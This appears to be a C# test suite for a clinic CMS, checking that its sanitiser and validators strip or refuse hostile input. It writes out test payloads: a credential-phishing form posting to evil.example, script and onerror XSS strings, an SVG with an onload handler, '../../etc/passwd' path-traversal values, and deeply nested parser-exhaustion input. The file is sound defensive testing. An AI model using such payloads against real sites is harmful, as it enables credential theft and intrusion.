using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using AngleSharp.Html.Dom;
using AngleSharp.Html.Parser;
using ClinicCms.Tests.GraphQL;
using ClinicCms.Tests.TestHost;

namespace ClinicCms.Tests.Security;

/// <summary>
/// Hostile or out-of-range content gets a 400 naming the problem, never a 500, and nothing is written. One site for
/// the class: the tests add items of their own and do not count each other's.
/// </summary>
public sealed class BadInputTests(SharedSecuredSite shared) : IClassFixture<SharedSecuredSite>
{
    [Fact]
    public async Task Html_loses_forms_and_iframes_unless_the_part_settings_allow_them()
    {
        var site = shared.Site;
        using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
        var ct = TestContext.Current.CancellationToken;
        const string html = "<p>Hi</p><form action=\"https://evil.example/steal\"><label>Password <input name=\"password\" type=\"password\"></label>"
            + "<select name=\"s\"><option>a</option></select><textarea name=\"t\">t</textarea><button>Sign in</button></form>"
            + "<iframe src=\"https://evil.example/\"></iframe><img src=\"x.png\" onerror=\"alert(1)\"><script>alert(2)</script>";
        string[] formsAndFrames = ["<form", "<input", "<select", "<option", "<textarea", "<button", "<iframe"];
        string[] scripts = ["<script", "onerror"];

        using var byDefault = await editor.PostAsJsonAsync("/api/content", Article("Default sanitizing", "articles/default-sanitizing", html), ct);
        var cleaned = (await GraphQLClient.Parse(byDefault))["HtmlBodyPart"]!["Html"]!.GetValue<string>();
        Assert.Equal(HttpStatusCode.OK, byDefault.StatusCode);
        Assert.Contains("<p>Hi</p>", cleaned, StringComparison.Ordinal);
        Assert.All(formsAndFrames.Concat(scripts), tag => Assert.DoesNotContain(tag, cleaned, StringComparison.OrdinalIgnoreCase));

        await site.App.RunRecipeTextAsync("""
            { "steps": [ { "name": "ContentDefinition", "ContentTypes": [ { "Name": "Article", "ContentTypePartDefinitionRecords": [
                { "PartName": "HtmlBodyPart", "Name": "HtmlBodyPart", "Settings": { "HtmlBodyPartSettings": { "SanitizeHtml": true, "AllowForms": true, "AllowIframes": true } } } ] } ] } ] }
            """, "allow-forms.recipe.json");
        using var allowed = await editor.PostAsJsonAsync("/api/content", Article("Forms allowed", "articles/forms-allowed", html), ct);
        var kept = (await GraphQLClient.Parse(allowed))["HtmlBodyPart"]!["Html"]!.GetValue<string>();
        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        Assert.All(formsAndFrames, tag => Assert.Contains(tag, kept, StringComparison.OrdinalIgnoreCase));
        Assert.All(scripts, tag => Assert.DoesNotContain(tag, kept, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task Unpaired_surrogates_huge_numbers_bad_paths_and_cultures_are_400s_naming_the_field_and_nothing_is_saved()
    {
        var site = shared.Site;
        using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
        var ct = TestContext.Current.CancellationToken;

        // Raw JSON: "\ud800" is an escaped lone surrogate, and 1e308 is a valid JSON number no decimal holds.
        const string faq = """{ "ContentType": "FAQ", "TitlePart": { "Title": TITLE }, "FAQ": { "Category": { "Text": "general" }, "Order": { "Value": ORDER } } }""";
        using var surrogate = await PostRawAsync(editor, faq.Replace("TITLE", "\"Half \\ud800 a pair\"", StringComparison.Ordinal).Replace("ORDER", "1", StringComparison.Ordinal));
        using var surrogateInPart = await PostRawAsync(editor, faq.Replace("TITLE", "\"Fine\"", StringComparison.Ordinal).Replace("\"general\"", "\"\\udc00\"", StringComparison.Ordinal).Replace("ORDER", "1", StringComparison.Ordinal));
        using var huge = await PostRawAsync(editor, faq.Replace("TITLE", "\"Huge order\"", StringComparison.Ordinal).Replace("ORDER", "1e308", StringComparison.Ordinal));
        using var nul = await PostRawAsync(editor, faq.Replace("TITLE", "\"Null \\u0000 inside\"", StringComparison.Ordinal).Replace("ORDER", "1", StringComparison.Ordinal));
        Assert.Equal(HttpStatusCode.BadRequest, nul.StatusCode); // PostgreSQL would refuse it at save: a 500 before
        var nulAnswer = await nul.Content.ReadAsStringAsync(ct);
        Assert.Contains("TitlePart.Title: the text has an unpaired UTF-16 surrogate", nulAnswer, StringComparison.Ordinal);
        Assert.Contains("or a NUL character", nulAnswer, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, surrogate.StatusCode);
        Assert.Contains("TitlePart.Title: the text has an unpaired UTF-16 surrogate", await surrogate.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, surrogateInPart.StatusCode);
        Assert.Contains("FAQ.Category.Text: the text has an unpaired UTF-16 surrogate", await surrogateInPart.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, huge.StatusCode);
        Assert.Contains("FAQ.Order: 1e308 is out of range", await huge.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);

        foreach (var (path, message) in new[]
        {
            ("articles/../admin", "has an empty, '.' or '..' segment"),
            ("articles//twice", "has an empty, '.' or '..' segment"),
            ("articles/<script>alert(1)</script>", "has a character that is not allowed ('<')"),
            ("articles/\"quoted\"", "has a character that is not allowed ('\"')"),
            ("articles/with space", "has a character that is not allowed (U+0020)"),
            ("articles/tab\there", "has a character that is not allowed (U+0009)"),
            (new string('a', 1100), "the path is 1100 characters long; at most 1024 are allowed"),
        })
        {
            using var response = await editor.PostAsJsonAsync("/api/content", Article("Bad path", path), ct);
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            var problem = (await GraphQLClient.Parse(response))["errors"]!["AutoroutePart.Path"]![0]!.GetValue<string>();
            Assert.Contains(message, problem, StringComparison.Ordinal);
        }
        var emptyMedia = Article("Empty media", "articles/empty-media");
        emptyMedia["Article"]!["HeroImage"] = new JsonObject { ["Paths"] = new JsonArray("", "../../etc/passwd"), ["MediaTexts"] = new JsonArray("", "") };
        using var mediaPaths = await editor.PostAsJsonAsync("/api/content", emptyMedia, ct);
        Assert.Equal(HttpStatusCode.BadRequest, mediaPaths.StatusCode);
        var mediaErrors = (await GraphQLClient.Parse(mediaPaths))["errors"]!;
        Assert.Equal("a media path is required, got an empty string", mediaErrors["Article.HeroImage.Paths[0]"]![0]!.GetValue<string>());
        Assert.StartsWith("'../../etc/passwd' is not a media path", mediaErrors["Article.HeroImage.Paths[1]"]![0]!.GetValue<string>(), StringComparison.Ordinal);

        // A culture of the wrong kind is named, not replaced by the site's default.
        foreach (var culture in new JsonNode?[] { 5, new JsonArray(), new JsonObject() })
        {
            var article = Article("Culture of the wrong kind", "articles/culture-kind");
            article["LocalizationPart"] = new JsonObject { ["Culture"] = culture };
            using var wrongKind = await editor.PostAsJsonAsync("/api/content", article, ct);
            Assert.Equal(HttpStatusCode.BadRequest, wrongKind.StatusCode);
            Assert.StartsWith("expected a string in Culture, got", (await GraphQLClient.Parse(wrongKind))["errors"]!["LocalizationPart"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        }

        // Letters of any script are fine, with their combining marks; the path is kept as written.
        using var unicode = await editor.PostAsJsonAsync("/api/content", Article("Ünicode", "/artikel/cafe\u0301-ketamin-治疗/"), ct);
        Assert.Equal(HttpStatusCode.OK, unicode.StatusCode);
        Assert.Equal("artikel/cafe\u0301-ketamin-治疗", (await GraphQLClient.Parse(unicode))["AutoroutePart"]!["Path"]!.GetValue<string>());
        var graphql = await new GraphQLClient(site.WithToken(await site.TokenAsync("reader-app", "Reader-app-secret-1")))
            .DataAsync("{ faqCount articleCount(where: { displayText: \"Bad path\" }) }");
        Assert.Equal(8, graphql["faqCount"]!.GetValue<int>());
        Assert.Equal(0, graphql["articleCount"]!.GetValue<int>());

        // Recipes too, and an SVG with script in the media step is refused before anything is written.
        var recipe = await Assert.ThrowsAsync<ClinicCms.Recipes.RecipeException>(() => site.App.RunRecipeTextAsync("""
            { "steps": [
              { "name": "media", "Files": [ { "TargetPath": "logo.svg", "Base64": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" } ] },
              { "name": "content", "data": [ { "ContentItemId": "badpath000000000000000001", "ContentItemVersionId": "badpathv00000000000000001",
                "ContentType": "Article", "TitlePart": { "Title": "Recipe path" }, "Article": { "Summary": { "Text": "x" } }, "AutoroutePart": { "Path": "articles/<b>" } } ] } ] }
            """, "bad-path.recipe.json"));
        Assert.Equal(
            ["bad-path.recipe.json: steps[0] (media) Files[0].Base64: the SVG has an event handler attribute 'onload'",
             "bad-path.recipe.json: steps[1] (content) data[0].AutoroutePart.Path: the path 'articles/<b>' has a character that is not allowed ('<'); paths use letters, digits, '-', '_', '.', '~' and '/' between segments"],
            recipe.Errors.Select(e => e.ToString()));

        // The admin's form takes the same rules: the error is shown beside the field and nothing is saved.
        using var admin = await site.SignedInAsync("admin", ClinicCmsApp.AdminPassword);
        var page = await admin.GetStringAsync($"/admin/content/{ClinicIds.Article}/edit", ct);
        var values = FormValues(page);
        values["AutoroutePart.Path"] = "articles/../../etc/passwd";
        values["action"] = "publish";
        using var posted = await admin.PostAsync($"/admin/content/{ClinicIds.Article}/edit", new FormUrlEncodedContent(values), ct);
        Assert.Equal(HttpStatusCode.OK, posted.StatusCode);
        Assert.Contains("has an empty, &#x27;.&#x27; or &#x27;..&#x27; segment", await posted.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
        var stored = await editor.GetFromJsonAsync<JsonObject>($"/api/content/{ClinicIds.Article}", ct);
        Assert.Equal("articles/how-many-ketamine-infusions-will-i-need", stored!["AutoroutePart"]!["Path"]!.GetValue<string>());
    }

    [Fact]
    public async Task Html_and_Markdown_too_deep_or_too_long_to_parse_are_400s_naming_the_field_and_nothing_is_saved()
    {
        var site = shared.Site;
        using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
        var ct = TestContext.Current.CancellationToken;
        var deepHtml = string.Concat(Enumerable.Repeat("<div>", 600)) + "x";
        static JsonObject Faq(string title, string markdown) => new()
        {
            ["ContentType"] = "FAQ",
            ["TitlePart"] = new JsonObject { ["Title"] = title },
            ["FAQ"] = new JsonObject { ["Answer"] = new JsonObject { ["Markdown"] = markdown }, ["Category"] = new JsonObject { ["Text"] = "general" } },
        };

        using var html = await editor.PostAsJsonAsync("/api/content", Article("Deep HTML", "articles/deep-html", deepHtml), ct);
        using var rawHtmlInMarkdown = await editor.PostAsJsonAsync("/api/content", Faq("Deep raw HTML?", deepHtml), ct);
        using var quotes = await editor.PostAsJsonAsync("/api/content", Faq("Deep quotes?", new string('>', 200) + " x"), ct);
        using var longMarkdown = await editor.PostAsJsonAsync("/api/content", Faq("Long answer?", string.Concat(Enumerable.Repeat("[a](", 20_000))), ct);

        Assert.Equal(HttpStatusCode.BadRequest, html.StatusCode);
        Assert.Contains("more than 512 deep", (await GraphQLClient.Parse(html))["errors"]!["HtmlBodyPart.Html"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, rawHtmlInMarkdown.StatusCode);
        Assert.Contains("more than 512 deep", (await GraphQLClient.Parse(rawHtmlInMarkdown))["errors"]!["FAQ.Answer.Markdown"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, quotes.StatusCode);
        Assert.Contains("the Markdown could not be rendered", (await GraphQLClient.Parse(quotes))["errors"]!["FAQ.Answer.Markdown"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, longMarkdown.StatusCode);
        Assert.Equal("at most 65536 characters of Markdown, got 80000", (await GraphQLClient.Parse(longMarkdown))["errors"]!["FAQ.Answer.Markdown"]![0]!.GetValue<string>());

        // Closed and within the limit is fine; a recipe is checked alike and writes nothing.
        var closed = string.Concat(Enumerable.Repeat("<div>", 400)) + "x" + string.Concat(Enumerable.Repeat("</div>", 400));
        using var fine = await editor.PostAsJsonAsync("/api/content", Article("Closed HTML", "articles/closed-html", closed), ct);
        Assert.Equal(HttpStatusCode.OK, fine.StatusCode);
        var recipe = await Assert.ThrowsAsync<ClinicCms.Recipes.RecipeException>(() => site.App.RunRecipeTextAsync($$"""
            { "steps": [ { "name": "content", "data": [ { "ContentItemId": "deephtml00000000000000001", "ContentItemVersionId": "deephtmlv0000000000000001",
                "ContentType": "Article", "TitlePart": { "Title": "Recipe deep" }, "Article": { "Summary": { "Text": "x" } }, "HtmlBodyPart": { "Html": "{{deepHtml}}" } } ] } ] }
            """, "deep-html.recipe.json"));
        Assert.Contains("HtmlBodyPart.Html", recipe.Message, StringComparison.Ordinal);
        var graphql = await new GraphQLClient(site.WithToken(await site.TokenAsync("reader-app", "Reader-app-secret-1")))
            .DataAsync("{ deep: articleCount(where: { displayText_in: [\"Deep HTML\", \"Recipe deep\"] }) faqs: faqCount(where: { displayText_in: [\"Deep raw HTML?\", \"Deep quotes?\", \"Long answer?\"] }) }");
        Assert.Equal(0, graphql["deep"]!.GetValue<int>());
        Assert.Equal(0, graphql["faqs"]!.GetValue<int>());
    }

    [Fact]
    public async Task A_number_typed_with_a_comma_is_refused_not_read_as_thousands()
    {
        var ct = TestContext.Current.CancellationToken;
        var site = shared.Site;
        using var admin = await site.SignedInAsync("admin", ClinicCmsApp.AdminPassword);
        var page = await admin.GetStringAsync($"/admin/content/{ClinicIds.TreatmentOverview}/edit", ct);
        var values = FormValues(page);
        values["TreatmentOverview.SessionsMinimum"] = "1,5";
        values["action"] = "publish";
        using var posted = await admin.PostAsync($"/admin/content/{ClinicIds.TreatmentOverview}/edit", new FormUrlEncodedContent(values), ct);
        var stored = FormValues(await admin.GetStringAsync($"/admin/content/{ClinicIds.TreatmentOverview}/edit", ct));

        Assert.Equal(HttpStatusCode.OK, posted.StatusCode);
        Assert.Contains("expected a number, got", await posted.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
        Assert.Equal("6", stored["TreatmentOverview.SessionsMinimum"]);
    }

    private static Task<HttpResponseMessage> PostRawAsync(HttpClient http, string json) =>
        http.PostAsync("/api/content", new StringContent(json, Encoding.UTF8, "application/json"));

    private static JsonObject Article(string title, string? path, string? html = null)
    {
        var article = new JsonObject
        {
            ["ContentType"] = "Article",
            ["TitlePart"] = new JsonObject { ["Title"] = title },
            ["Article"] = new JsonObject { ["Summary"] = new JsonObject { ["Text"] = "x" } },
        };
        if (path is not null)
        {
            article["AutoroutePart"] = new JsonObject { ["Path"] = path };
        }
        if (html is not null)
        {
            article["HtmlBodyPart"] = new JsonObject { ["Html"] = html };
        }
        return article;
    }

    /// <summary>Every value the form would post as it stands, as a browser collects them.</summary>
    internal static Dictionary<string, string> FormValues(string page)
    {
        var form = new HtmlParser().ParseDocument(page).QuerySelector("form.editor") as IHtmlFormElement;
        var values = new Dictionary<string, string>();
        foreach (var element in form!.Elements)
        {
            switch (element)
            {
                case IHtmlInputElement { Type: "checkbox" or "radio", IsChecked: false } or IHtmlInputElement { Type: "submit" or "button" }:
                    break;
                case IHtmlInputElement input when !string.IsNullOrEmpty(input.Name):
                    values[input.Name] = input.Value;
                    break;
                case IHtmlTextAreaElement area when !string.IsNullOrEmpty(area.Name):
                    values[area.Name] = area.Value;
                    break;
                case IHtmlSelectElement select when !string.IsNullOrEmpty(select.Name):
                    values[select.Name] = select.Value ?? "";
                    break;
            }
        }
        return values;
    }
}
